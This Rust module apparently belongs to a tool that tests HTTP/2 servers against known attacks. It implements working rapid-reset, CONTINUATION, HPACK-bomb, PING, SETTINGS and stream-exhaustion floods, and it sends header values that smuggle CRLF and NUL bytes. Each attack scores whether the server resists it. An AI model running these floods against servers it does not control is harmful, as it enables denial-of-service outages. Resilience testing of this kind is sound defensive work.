//! C: HTTP/2.

use std::time::Duration;

use crate::{
    Level,
    context::{Context, route},
    verdict::{Failure, Finding},
    wire::{FrameType, Frames, encode, frame, indexed_literal},
};

mod batches;
mod downgrade;
mod stalls;
mod table;
mod unfinished;

pub(crate) use self::table::ATTACKS;

pub(crate) use self::{
    batches::control_batches,
    downgrade::through_fronts,
    stalls::{shut_windows, sparing_windows},
    unfinished::{half_headers, no_settings, slow_continuations},
};

pub(crate) async fn rapid_reset(context: &Context) -> Finding {
    let block = request(context, "GET", context.control());
    let one = |stream: u32| {
        let mut bytes = frame(FrameType::Headers, END_HEADERS | END_STREAM, stream, &block);
        bytes.extend(frame(FrameType::Reset, 0, stream, &8u32.to_be_bytes()));
        bytes
    };
    let count = context.intensity.scale(20_000);
    flood(context, "streams, each opened and reset", count, one).await
}

pub(crate) async fn made_you_reset(context: &Context) -> Finding {
    let block = request(context, "GET", context.control());
    let one = |stream: u32| {
        let mut bytes = frame(FrameType::Headers, END_HEADERS, stream, &block);
        bytes.extend(frame(FrameType::WindowUpdate, 0, stream, &[0; 4]));
        bytes
    };
    let count = context.intensity.scale(20_000);
    flood(
        context,
        "streams, each with a WINDOW_UPDATE of 0",
        count,
        one,
    )
    .await
}

pub(crate) async fn continuation_flood(context: &Context) -> Finding {
    let mut frames = Frames::connect(context, context.fresh())
        .await?
        .ready()
        .await?;
    let block = request(context, "GET", context.control());
    frames
        .send(FrameType::Headers, END_STREAM, 1, &block)
        .await?;
    let part = encode(&[("x-siege", &[b'a'; 1000])]);
    let mut sent = 0;
    while sent < 1 << 20 && !frames.is_over() {
        frames.send(FrameType::Continuation, 0, 1, &part).await?;
        sent += part.len();
        tokio::task::yield_now().await;
    }
    over(&frames, "1 MB of CONTINUATION frames").await
}

pub(crate) async fn hpack_bomb(context: &Context) -> Finding {
    let mut frames = Frames::connect(context, context.fresh())
        .await?
        .ready()
        .await?;
    let mut block = request(context, "GET", context.control());
    indexed_literal(&mut block, b"x-siege", &[b'a'; 3900]);
    // 62 is the newest entry of the dynamic table: a field of 3.9 KB for a byte.
    block.extend(std::iter::repeat_n(0x80 | 62, 4000));
    frames
        .send(FrameType::Headers, END_HEADERS | END_STREAM, 1, &block)
        .await?;
    frames
        .wait(ANSWER, |seen| {
            seen.refused(1) || seen.answers.contains_key(&1)
        })
        .await;
    let seen = frames.seen();
    if seen.refused(1) {
        Ok("refused".to_owned())
    } else {
        Err(seen
            .evidence(
                "a head of 16 MB is served",
                "a field of 3.9 KB, then 4,000 times its index",
            )
            .into())
    }
}

pub(crate) async fn ping_flood(context: &Context) -> Finding {
    let ping = frame(FrameType::Ping, 0, 0, &[7; 8]);
    flood(context, "PING frames", 50_000, |_| ping.clone()).await
}

pub(crate) async fn settings_flood(context: &Context) -> Finding {
    let settings = frame(FrameType::Settings, 0, 0, &[]);
    flood(context, "SETTINGS frames", 50_000, |_| settings.clone()).await
}

pub(crate) async fn empty_data_flood(context: &Context) -> Finding {
    let mut frames = Frames::connect(context, context.fresh())
        .await?
        .ready()
        .await?;
    let block = body_request(context)?;
    frames
        .send(FrameType::Headers, END_HEADERS, 1, &block)
        .await?;
    let many = frame(FrameType::Data, 0, 1, &[]).repeat(100);
    for _ in 0..500 {
        context.budget.request()?;
        frames.write(&many).await?;
        if frames.is_over() || frames.seen().refused(1) {
            break;
        }
        tokio::task::yield_now().await;
    }
    frames.wait(ANSWER, |seen| seen.refused(1)).await;
    let seen = frames.seen();
    if seen.refused(1) {
        Ok("ended".to_owned())
    } else {
        let what = "50,000 DATA frames without data, and the stream goes on";
        Err(seen
            .evidence(what, "HEADERS, then empty DATA frames")
            .into())
    }
}

pub(crate) async fn too_many_streams(context: &Context) -> Finding {
    let mut frames = Frames::connect(context, context.fresh())
        .await?
        .ready()
        .await?;
    let Some(max) = frames.seen().max_streams.filter(|max| *max <= 10_000) else {
        // RFC 9113, 6.5.2: without it there is none.
        let what = "SETTINGS sets no bound on streams";
        let evidence = frames.seen().evidence(what, "SETTINGS");
        return Err(evidence.at_most(Level::Should).into());
    };
    // Requests whose bodies never come, so that every stream stays open.
    let block = body_request(context)?;
    let last = (max + 20) * 2 + 1;
    for stream in (1..=last).step_by(2) {
        context.budget.request()?;
        frames
            .send(FrameType::Headers, END_HEADERS, stream, &block)
            .await?;
    }
    frames.wait(ANSWER, |seen| seen.refused(last)).await;
    let seen = frames.seen();
    if seen.refused(last) {
        Ok(format!("refused beyond {max}"))
    } else {
        let what = format!("{} streams at once; SETTINGS allows {max}", max + 21);
        Err(seen
            .evidence(what, "HEADERS without END_STREAM, on each")
            .into())
    }
}

pub(crate) async fn invalid_fields(context: &Context) -> Finding {
    let bad: [(&str, &[u8]); 8] = [
        ("connection", b"close"),
        ("keep-alive", b"5"),
        ("transfer-encoding", b"chunked"),
        ("te", b"gzip"),
        ("X-Upper", b"a"),
        ("x-lines", b"a\r\nb: c"),
        ("x-line", b"a\nb"),
        ("x-nul", b"a\0b"),
    ];
    for (name, value) in bad {
        let mut frames = Frames::connect(context, context.fresh())
            .await?
            .ready()
            .await?;
        let mut block = request(context, "GET", context.control());
        block.extend(encode(&[(name, value)]));
        served_or_not(context, &mut frames, &block, &format!("the field {name:?}")).await?;
    }
    Ok("8 fields refused".to_owned())
}

pub(crate) async fn authority_and_host(context: &Context) -> Finding {
    let mut frames = Frames::connect(context, context.fresh())
        .await?
        .ready()
        .await?;
    let mut block = request(context, "GET", context.control());
    block.extend(encode(&[("host", b"siege-host.example")]));
    served_or_not(
        context,
        &mut frames,
        &block,
        "an authority and another host",
    )
    .await?;
    Ok("refused".to_owned())
}

async fn served_or_not(
    context: &Context,
    frames: &mut Frames,
    block: &[u8],
    sent: &str,
) -> Result<(), Failure> {
    context.budget.request()?;
    frames
        .send(FrameType::Headers, END_HEADERS | END_STREAM, 1, block)
        .await?;
    frames
        .wait(ANSWER, |seen| {
            seen.refused(1) || seen.answers.contains_key(&1)
        })
        .await;
    let seen = frames.seen();
    if seen.refused(1) {
        Ok(())
    } else {
        let what = match seen.status(1) {
            Some(status) => format!("{sent} is answered with {status}"),
            None => format!("{sent} is neither refused nor answered"),
        };
        Err(seen.evidence(what, sent).into())
    }
}

/// Sends until the server has enough, or everything is sent.
async fn flood(
    context: &Context,
    what: &str,
    count: usize,
    one: impl Fn(u32) -> Vec<u8>,
) -> Finding {
    let mut frames = Frames::connect(context, context.fresh())
        .await?
        .ready()
        .await?;
    let mut sent = 0;
    while sent < count && !frames.is_over() {
        let mut bytes = Vec::new();
        for _ in 0..50 {
            context.budget.request()?;
            bytes.extend(one(sent as u32 * 2 + 1));
            sent += 1;
        }
        frames.write(&bytes).await?;
        tokio::task::yield_now().await;
    }
    over(&frames, &format!("{sent} {what}")).await
}

/// Whether the server has ended the connection.
async fn over(frames: &Frames, sent: &str) -> Finding {
    frames
        .wait(ANSWER, |seen| seen.closed || seen.goaway.is_some())
        .await;
    let seen = frames.seen();
    match (seen.goaway, seen.closed) {
        (Some(code), _) => Ok(format!("GOAWAY ({code})")),
        (None, true) => Ok("closed".to_owned()),
        (None, false) => Err(seen
            .evidence(format!("{sent}, and the connection goes on"), sent)
            .into()),
    }
}

/// The block of a request, with the valid key if one is known.
/// The head of a POST to the route that reads a body.
fn body_request(context: &Context) -> Result<Vec<u8>, Failure> {
    let mut block = request(context, "POST", route(&context.profile.routes.body)?);
    if let Some(kind) = context.sample().kind() {
        block.extend(encode(&[("content-type", kind.as_bytes())]));
    }
    Ok(block)
}

fn request(context: &Context, method: &str, path: &str) -> Vec<u8> {
    let key = context.profile.keys.valid.as_deref().unwrap_or("");
    let fields: [(&str, &[u8]); 5] = [
        (":method", method.as_bytes()),
        (":scheme", b"http"),
        (":authority", context.target.authority().as_bytes()),
        (":path", path.as_bytes()),
        (&context.profile.keys.header, key.as_bytes()),
    ];
    let count = if key.is_empty() { 4 } else { 5 };
    encode(&fields[..count])
}

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ANSWER: Duration = Duration::from_secs(2);
